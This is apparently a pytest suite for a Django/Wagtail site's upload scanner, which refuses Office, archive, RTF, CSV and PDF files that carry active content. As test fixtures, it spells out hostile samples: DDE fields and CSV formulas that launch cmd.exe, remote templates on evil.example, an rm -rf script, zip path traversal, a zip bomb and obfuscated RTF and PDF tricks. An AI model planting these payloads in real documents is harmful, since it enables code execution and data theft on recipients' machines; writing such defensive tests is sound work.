"""The shared content sweep (core/file_safety/) for Office files, archives and RTF, and the two
other ways files come in: editors' documents (Wagtail's document forms) and the policy importer."""

import io
import warnings
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from wagtail.documents import get_document_model
from wagtail.documents.forms import get_document_form
from wagtail.models import Page

from core import file_safety
from core.document_forms import DocumentForm
from forms.fields import AttachmentField
from inbox.services import Invalid, check_applicant_files
from policies.importer import PolicyImportError, import_file
from tests.support.files import (
    HOSTILE_PDFS,
    OLE_FILE,
    WINDOWS_PROGRAM,
    WORD_MAIN,
    XLSX_MAIN,
    R,
    W,
    content_types,
    docx,
    pdf_a3_invoice,
    pdf_with,
    pdf_with_attachment,
    relationships,
    text_pdf,
    xlsx,
    zip_of,
)


def refusal(content, name):
    with pytest.raises(ValidationError) as error:
        file_safety.check_content(content, name)
    return error.value.code


def instruction_runs(*pieces):
    """A field code split over several runs, as Word writes it."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


MACRO_TYPES = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
HOSTILE_OFFICE = {
    "docx with macros": ("report.docx", docx(extra_parts={"word/vbaProject.bin": OLE_FILE}, extra_types=MACRO_TYPES)),
    "docm renamed docx (macro-enabled content type)": ("report.docx", docx(main=DOCM_MAIN)),
    "docx with an OLE object": ("report.docx", docx(extra_parts={"word/embeddings/oleObject1.bin": OLE_FILE})),
    "docx with an ActiveX control": ("report.docx", docx(extra_parts={"word/activeX/activeX1.xml": "<ax/>"})),
    "docx with a remote template": (
        "report.docx",
        docx(settings_rels=[("rId1", "attachedTemplate", "https://evil.example/t.dotm", True)]),
    ),
    "docx with a template on a file share": (
        "report.docx",
        docx(settings_rels=[("rId1", "attachedTemplate", "file://evil/share/t.dotm", True)]),
    ),
    "docx with a remote OLE object (mhtml)": (
        "report.docx",
        docx(
            document_rels=[("rId9", "oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example", True)]
        ),
    ),
    "docx with an external frame": (
        "report.docx",
        docx(document_rels=[("rId9", "frame", "\\\\evil\\share\\f.htm", True)]),
    ),
    "docx with an external sub-document": (
        "report.docx",
        docx(document_rels=[("rId9", "subDocument", "https://evil.example/part.docx", True)]),
    ),
    "docx with a DDEAUTO field split over runs": (
        "report.docx",
        docx(instruction_runs(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc.exe"')),
    ),
    "docx with a simple DDE field": ("report.docx", docx('<w:p><w:fldSimple w:instr=" dde cmd.exe /c calc "/></w:p>')),
    "xlsx with a DDE link": (
        "sheet.xlsx",
        xlsx(
            extra_parts={
                "xl/externalLinks/externalLink1.xml": (
                    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                )
            }
        ),
    ),  # fmt: skip
    "xlsx with a DDE formula": ("sheet.xlsx", xlsx("<c r=\"A1\"><f>cmd|' /C calc'!A0</f></c>")),
    "xlsx with an external workbook link": (
        "sheet.xlsx",
        xlsx(
            extra_parts={
                "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
                    ("rId1", "externalLinkPath", "https://evil.example/book.xlsx", True),
                )
            }
        ),
    ),  # fmt: skip
    "pptx with macros": (
        "slides.pptx",
        zip_of({"[Content_Types].xml": "<Types/>", "ppt/vbaProject.bin": OLE_FILE, "ppt/presentation.xml": "<p/>"}),
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_OFFICE), ids=sorted(HOSTILE_OFFICE))
def test_office_files_with_active_content_are_refused(case):
    name, content = HOSTILE_OFFICE[case]
    assert refusal(content, name) == "active_content"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("report.docx", docx(), id="clean docx"),
        pytest.param("sheet.xlsx", xlsx('<c r="A1"><f>SUM(B1:B9)</f></c>'), id="clean xlsx with a formula"),
        pytest.param(
            "report.docx",
            docx(
                '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>الموقع</w:t></w:r></w:hyperlink></w:p>',
                document_rels=[("rId5", "hyperlink", "https://www.example.org/", True)],
            ),
            id="docx with a web hyperlink",
        ),
        pytest.param(
            "report.docx",
            docx(
                settings_rels=[("rId1", "attachedTemplate", "file:///C:/Users/staff/Templates/letterhead.dotx", True)]
            ),
            id="docx made from a template on the author's own disk",
        ),
        pytest.param("report.docx", docx(instruction_runs(" PAGE ")), id="docx with a page-number field"),
        pytest.param(
            "report.docx",
            docx(
                extra_parts={"word/media/image1.svg": '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'}
            ),
            id="docx with an SVG icon",
        ),
        pytest.param(
            "report.docx",
            docx(extra_parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()}),
            id="docx with a chart's workbook",
        ),
    ],
)
def test_honest_office_files_are_accepted(name, content):
    file_safety.check_content(content, name)


def test_legacy_office_files_are_refused_even_inside_an_archive():
    assert refusal(OLE_FILE, "old.doc") == "legacy_office"
    assert refusal(zip_of({"minutes.doc": OLE_FILE}), "minutes.zip") == "legacy_office"
    # a password-protected .docx is an OLE container too: say so rather than "old format"
    assert refusal(OLE_FILE, "report.docx") == "protected"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        pytest.param(zip_of({"setup.exe": WINDOWS_PROGRAM}), "active_content", id="program by name"),
        pytest.param(zip_of({"photo.jpg": WINDOWS_PROGRAM}), "active_content", id="program by content"),
        pytest.param(zip_of({"readme.txt": "ok", "run.sh": "#!/bin/sh\nrm -rf ~\n"}), "active_content", id="script"),
        pytest.param(zip_of({"help.hta": "<hta:application/>"}), "active_content", id="hta"),
        pytest.param(
            zip_of({"a.zip": zip_of({"b.zip": zip_of({"c.docx": docx(main=DOCM_MAIN)})})}),
            "active_content",
            id="macro document nested in archives",
        ),  # fmt: skip
        pytest.param(zip_of({"annex.pdf": HOSTILE_PDFS["object stream"]}), "active_content", id="hostile pdf inside"),
        pytest.param(zip_of({"../../etc/cron.d/job": "x"}), "unsafe_paths", id="path traversal"),
        pytest.param(
            zip_of(
                {"logo.svg": '<svg xmlns="http://www.w3.org/2000/svg">' + " " * 5000 + '<rect onload="x()"/></svg>'}
            ),
            "active_content",
            id="svg with an event handler deep inside",
        ),  # fmt: skip
    ],
)
def test_archives_are_swept_member_by_member(content, code):
    assert refusal(content, "papers.zip") == code


def test_archives_are_bounded_in_depth_and_unpacked_size():
    nested = zip_of({"report.txt": "نص"})
    for level in range(file_safety.MAX_DEPTH + 1):
        nested = zip_of({f"level{level}.zip": nested})
    assert refusal(nested, "deep.zip") == "too_large"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        for number in range(9):
            bomb.writestr(f"zeros{number}.txt", bytes(25 * 1024 * 1024))  # 225 MB that pack into a few hundred KB
    assert len(buffer.getvalue()) < 1024 * 1024
    assert refusal(buffer.getvalue(), "bomb.zip") == "too_large"


def test_an_encrypted_archive_member_cannot_be_checked():
    archive = bytearray(zip_of({"secret.txt": "x"}))
    # zipfile cannot encrypt: set the "encrypted" flag in the local and the central header by hand
    for header, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        archive[archive.index(header) + flag_at] |= 0x1
    assert refusal(bytes(archive), "papers.zip") == "protected"


def test_a_clean_archive_with_documents_passes():
    file_safety.check_content(zip_of({"minutes.pdf": text_pdf(), "budget.xlsx": xlsx(), "notes.txt": "نص"}), "a.zip")


def test_open_document_macros_and_script_listeners_are_refused():
    content = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'
    odt = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content}
    file_safety.check_content(zip_of(odt), "policy.odt")
    assert refusal(zip_of({**odt, "Basic/Standard/Module1.xml": "<m/>"}), "policy.odt") == "active_content"
    listener = (
        '<d xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<script:event-listener xlink:href="vnd.sun.star.script:x.py$run?language=Python&amp;location=share"/></d>'
    )
    assert refusal(zip_of({**odt, "content.xml": listener}), "policy.odt") == "active_content"


def test_rtf_objects_and_dde_fields_are_refused():
    file_safety.check_content(rb"{\rtf1\ansi {\field{\*\fldinst PAGE}{\fldrslt 1}} Hello}", "letter.rtf")
    assert refusal(rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "letter.rtf") == "active_content"
    hidden = rb"{\rtf1{\field{\*\fldinst {\'44}D{E}AUTO c:\\windows\\cmd.exe}{\fldrslt x}}}"
    assert refusal(hidden, "letter.rtf") == "active_content"


def test_a_program_under_a_document_name_is_refused():
    assert refusal(WINDOWS_PROGRAM, "minutes.txt") == "active_content"
    assert refusal(b"\x7fELF\x02\x01\x01" + bytes(100), "data.csv") == "active_content"
    assert refusal(zip_of({"a.txt": "x"}), "minutes.pdf") == "mismatch"


# --- editors' documents -------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_every_document_form_wagtail_builds_carries_the_check():
    """The admin's add and edit views, the multiple uploader, the chooser and API v3's writes all use it."""
    assert issubclass(get_document_form(get_document_model()), DocumentForm)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("minutes.pdf", HOSTILE_PDFS["escaped name"]),
        ("budget.xlsx", HOSTILE_OFFICE["xlsx with a DDE link"][1]),
        ("letter.docx", HOSTILE_OFFICE["docx with a remote template"][1]),
        ("archive.zip", zip_of({"tool.exe": WINDOWS_PROGRAM})),
    ],
    ids=["pdf", "xlsx", "docx", "zip"],
)
def test_an_editor_cannot_upload_a_document_with_active_content(admin_client, name, content):
    from wagtail.models import Collection

    Document = get_document_model()
    before = Document.objects.count()
    response = admin_client.post(
        "/admin/documents/add/",
        {"title": "x", "collection": Collection.get_first_root_node().pk, "file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 200
    assert "محتوى نشطًا" in response.content.decode()  # the admin speaks the editor's language: Arabic here
    multiple = admin_client.post("/admin/documents/multiple/add/", {"files[]": SimpleUploadedFile(name, content)})
    assert multiple.json()["success"] is False and "محتوى نشطًا" in multiple.json()["error_message"]
    assert Document.objects.count() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content"),
    [("invoice.pdf", pdf_a3_invoice()), ("report.docx", docx()), ("budget.xlsx", xlsx()), ("notes.txt", "نص".encode())],
    ids=["pdf-a3", "docx", "xlsx", "txt"],
)
def test_an_editor_uploads_honest_documents(admin_client, name, content):
    from wagtail.models import Collection

    response = admin_client.post(
        "/admin/documents/add/",
        {"title": name, "collection": Collection.get_first_root_node().pk, "file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 302, response.content.decode()[-2000:]
    assert get_document_model().objects.filter(title=name).exists()


# --- the policy importer ---------------------------------------------------------------------------
POLICY_BODY = "".join(
    f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in ["سياسة الشكاوى", "تمهيد:", "نرحب بكل شكوى من المستفيدين."]
)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content",
    [
        pytest.param(
            docx(POLICY_BODY, extra_parts={"word/vbaProject.bin": OLE_FILE}, extra_types=MACRO_TYPES), id="macros"
        ),  # fmt: skip
        pytest.param(docx(POLICY_BODY + instruction_runs("DDEAUTO cmd")), id="DDE"),
        pytest.param(
            docx(POLICY_BODY, settings_rels=[("rId1", "attachedTemplate", "https://evil.example/t", True)]),
            id="remote template",
        ),  # fmt: skip
    ],
)
def test_the_policy_importer_refuses_active_documents_and_creates_nothing(site_pages, content):
    before = Page.objects.count()
    with translation.override("en"), pytest.raises(PolicyImportError, match="contains active content"):
        import_file(content, "policy.docx", "ar")
    assert Page.objects.count() == before


@pytest.mark.django_db
def test_the_policy_importer_refuses_an_active_pdf(site_pages):
    hostile = text_pdf().replace(b"/Type /Catalog", b"/Type /Catalog /AA << /WC << /S /J#61vaScript /J#53 (x) >> >>")
    with translation.override("en"), pytest.raises(PolicyImportError, match="contains active content"):
        import_file(hostile, "policy.pdf", "ar")


@pytest.mark.django_db
def test_the_policy_importer_still_reads_an_honest_word_file(site_content):
    page, _parsed = import_file(docx(POLICY_BODY), "policy.docx", "ar")
    assert page.title == "سياسة الشكاوى"


def test_csv_cells_that_are_dde_formulas_are_refused():
    file_safety.check_content("الاسم,المبلغ\nسارة,=SUM(B1:B3)\nعلي,-5\n".encode(), "budget.csv")
    assert refusal(b"name,amount\nx,\"=cmd|' /C calc'!A0\"\n", "budget.csv") == "active_content"
    assert refusal("name\n=cmd|' /C calc'!A0\n".encode("utf-16"), "budget.csv") == "active_content"


# --- one allowance of time and PDF objects for all the files of a request ----------------------------------
# text_pdf() has 7 objects: one fits in an allowance of 10, two do not.
def test_the_files_of_one_request_share_one_allowance(monkeypatch):
    monkeypatch.setattr(file_safety.base, "MAX_PDF_OBJECTS", 10)
    file_safety.check_content(text_pdf(), "one.pdf")
    file_safety.check_content(text_pdf(), "two.pdf")  # without a shared allowance, each has its own
    with file_safety.shared_allowance():
        file_safety.check_content(text_pdf(), "one.pdf")
        assert refusal(text_pdf(), "two.pdf") == "too_complex"


def test_a_pdf_attached_inside_another_takes_from_the_same_allowance(monkeypatch):
    monkeypatch.setattr(file_safety.base, "MAX_PDF_OBJECTS", 10)
    assert refusal(pdf_with_attachment(b"annex.pdf", text_pdf()), "a.pdf") == "too_complex"


def test_the_time_allowance_is_checked_before_parsing(monkeypatch):
    monkeypatch.setattr(file_safety.base, "MAX_SWEEP_SECONDS", -1)  # used up before the first file
    monkeypatch.setattr(file_safety.pdf, "PdfReader", None)  # never reached
    assert refusal(text_pdf(), "a.pdf") == "too_complex"


def test_the_middleware_gives_each_request_one_allowance(monkeypatch, rf):
    monkeypatch.setattr(file_safety.base, "MAX_PDF_OBJECTS", 10)

    def view(request):
        file_safety.check_content(text_pdf(), "one.pdf")
        with pytest.raises(ValidationError):
            file_safety.check_content(text_pdf(), "two.pdf")
        return "done"

    middleware = file_safety.SharedAllowanceMiddleware(view)
    assert middleware(rf.get("/")) == "done"
    assert middleware(rf.get("/")) == "done"  # the next request starts afresh


def test_a_form_with_too_much_to_check_says_so_in_arabic(monkeypatch):
    monkeypatch.setattr(file_safety.base, "MAX_PDF_OBJECTS", 10)
    field = AttachmentField(multiple=True)
    files = [SimpleUploadedFile(f"{number}.pdf", text_pdf(), "application/pdf") for number in (1, 2)]
    assert len(field.clean(files[:1])) == 1
    with translation.override("ar"), pytest.raises(ValidationError) as error:
        field.clean(files)
    assert [item.code for item in error.value.error_list] == ["too_complex"]
    assert "معقّد" in error.value.messages[0]


def test_the_personal_link_upload_shares_one_allowance(monkeypatch):
    monkeypatch.setattr(file_safety.base, "MAX_PDF_OBJECTS", 10)
    files = [SimpleUploadedFile(f"{number}.pdf", text_pdf(), "application/pdf") for number in (1, 2)]
    with pytest.raises(Invalid):
        check_applicant_files(files)


# --- Office parts found by relationship, whatever their names ----------------------------------------------
def relocated_docx(body: str, main_part: str = "doc/main.xml", types_name: str = "[Content_Types].xml") -> bytes:
    return zip_of(
        {
            types_name: content_types(WORD_MAIN, main_part),
            "_rels/.rels": relationships(("rId1", "officeDocument", main_part, False)),
            main_part: f'<?xml version="1.0"?><w:document {W} {R}><w:body>{body}</w:body></w:document>',
        }
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("report.docx", relocated_docx(instruction_runs(" DDEAUTO cmd.exe ")), id="DDE in doc/main.xml"),
        pytest.param(
            "report.docx", relocated_docx(instruction_runs(" DDE cmd "), "WORD/Document.XML"), id="DDE in upper case"
        ),
        pytest.param(
            "sheet.xlsx",
            zip_of(
                {
                    "[Content_Types].xml": content_types(XLSX_MAIN, "xl/workbook.xml"),
                    "xl/ws/sheet1.xml": (
                        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                        '<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>'
                    ),
                }
            ),
            id="DDE formula in xl/ws/sheet1.xml",
        ),
        pytest.param(
            "sheet.xlsx",
            xlsx(
                extra_parts={
                    "xl/links/book.xml": '<externalLink xmlns="urn:x"><ddeLink ddeService="c"/></externalLink>'
                }
            ),
            id="DDE link elsewhere",
        ),
        pytest.param(
            "report.docx",
            zip_of(
                {
                    "[CONTENT_TYPES].XML": content_types(WORD_MAIN, "word/document.xml", MACRO_TYPES),
                    "word/document.xml": f"<w:document {W}/>",
                }
            ),
            id="macro content type in upper-case [Content_Types].xml",
        ),
        pytest.param(
            "report.docx",
            docx(
                extra_parts={
                    "word/_rels/settings.xml.RELS": relationships(
                        ("rId1", "attachedTemplate", "https://evil.example/t.dotm", True)
                    )
                }
            ),
            id="remote template in an upper-case .RELS",
        ),
        pytest.param(
            "sheet.xlsx",
            zip_of(
                {
                    "[Content_Types].xml": content_types(
                        XLSX_MAIN,
                        "xl/workbook.xml",
                        '<Override PartName="/xl/ms/m1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
                    ),
                    "xl/workbook.xml": "<workbook/>",
                }
            ),
            id="Excel 4 macro sheet by content type",
        ),
        pytest.param("sheet.xlsx", xlsx(extra_parts={"xl/macrosheets/sheet1.xml": "<m/>"}), id="macro sheet part"),
        pytest.param(
            "report.docx",
            docx(document_rels=[("rId7", "image", "\\\\evil\\share\\x.png", True)]),
            id="picture on a network share",
        ),
        pytest.param(
            "report.docx",
            docx(document_rels=[("rId7", "image", "file://evil/share/x.png", True)]),
            id="picture on a file:// share",
        ),
        pytest.param(
            "report.docx",
            docx(instruction_runs(' INCLUDEPICTURE "https://tracker.example/p.png" \\d ')),
            id="INCLUDEPICTURE from the web",
        ),
        pytest.param(
            "report.docx",
            docx(instruction_runs(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx" ')),
            id="INCLUDETEXT from a share",
        ),
    ],
)
def test_office_active_content_is_found_whatever_the_part_is_called(name, content):
    assert refusal(content, name) == "active_content"


def test_office_files_that_include_a_local_picture_are_accepted():
    file_safety.check_content(docx(instruction_runs(' INCLUDEPICTURE "C:\\\\pics\\\\logo.png" \\d ')), "a.docx")
    file_safety.check_content(docx(instruction_runs(' INCLUDEPICTURE "logo.png" ')), "a.docx")
    local_image = docx(document_rels=[("rId7", "image", "file:///C:/pics/logo.png", True)])
    file_safety.check_content(local_image, "a.docx")


# --- zip members of one name -----------------------------------------------------------------------------------
def zip_with_entries(*entries) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name this builds on purpose
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def test_an_archive_with_two_members_of_one_name_is_refused():
    hostile = zip_with_entries(("annex.exe.txt", b"x"), ("run.txt", WINDOWS_PROGRAM), ("run.txt", b"plain"))
    assert refusal(hostile, "files.zip") in {"active_content", "unreadable"}
    assert refusal(zip_with_entries(("notes.txt", b"a"), ("NOTES.TXT", b"b")), "files.zip") == "unreadable"
    file_safety.check_content(zip_with_entries(("notes.txt", b"a"), ("other/notes.txt", b"b")), "files.zip")


def test_the_first_of_two_members_of_one_name_is_not_skipped():
    document = docx(instruction_runs(" DDEAUTO cmd.exe "))
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        parts = [(info.filename, archive.read(info)) for info in archive.infolist()]
    clean = f'<?xml version="1.0"?><w:document {W}><w:body/></w:document>'
    assert refusal(zip_with_entries(*parts, ("word/document.xml", clean)), "report.docx") == "unreadable"


# --- RTF field instructions read to the end of their group -----------------------------------------------------
@pytest.mark.parametrize(
    "content",
    [
        pytest.param(rb"{\rtf1{\field{\*\fldinst {\*\pad " + b"x" * 600 + rb"} DDEAUTO c:\\cmd.exe}{\fldrslt x}}}",
                     id="DDEAUTO after padding"),
        pytest.param(rb"{\rtf1{\field{\*\fldinst D{\*\bkmkstart x}DE c:\\cmd.exe}{\fldrslt x}}}",
                     id="DDE split by a bookmark"),
        pytest.param(rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE \"https://tracker.example/p.png\" \\d}{\fldrslt x}}}",
                     id="INCLUDEPICTURE from the web"),
    ],
)  # fmt: skip
def test_rtf_fields_hidden_with_groups_are_refused(content):
    assert refusal(content, "letter.rtf") == "active_content"


def test_honest_rtf_fields_are_accepted():
    link = rb'{\rtf1{\field{\*\fldinst HYPERLINK "https://example.org/"{\*\bkmkstart a}}{\fldrslt site}} end}'
    file_safety.check_content(link, "letter.rtf")
    picture = rb'{\rtf1{\field{\*\fldinst INCLUDEPICTURE "logo.png"}{\fldrslt x}}}'
    file_safety.check_content(picture, "letter.rtf")


# --- PDF links and threads -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "action",
    [
        pytest.param(b"/S /URI /URI (www.example.org/x.exe)", id="link without a scheme"),
        pytest.param(b"/S /URI /URI (\\\\\\\\evil\\\\share\\\\x.pdf)", id="link to a UNC path"),
        pytest.param(b"/S /URI /URI (//evil/share/x.pdf)", id="link to //host"),
        pytest.param(b"/S /Thread /F (other.pdf) /D 0", id="thread in another file"),
    ],
)
def test_pdf_links_and_threads_that_reach_other_files_are_refused(action):
    assert refusal(pdf_with(b"/OpenAction << " + action + b" >>"), "a.pdf") == "active_content"
    outline = b"/Outlines << /First << /Title (a) /A << " + action + b" >> >> >>"
    assert refusal(pdf_with(outline), "a.pdf") == "active_content"
